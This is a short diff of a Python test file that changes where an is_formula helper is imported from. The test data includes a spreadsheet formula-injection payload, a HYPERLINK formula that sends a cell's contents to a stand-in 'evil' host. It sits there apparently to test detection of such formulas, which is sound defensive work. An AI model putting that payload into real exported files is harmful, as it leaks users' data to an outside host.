@@ -9,7 +9,7 @@ import pytest
 
 import maxent
 from maxent.__main__ import main
-from maxent.models.files.spreadsheet_formulas import is_formula
+from maxent.models.files.result_files import is_formula
 
 EVIL = '=HYPERLINK("http://evil/?"&A1)'
 VALUES = [EVIL, "-1+1", "-5"]
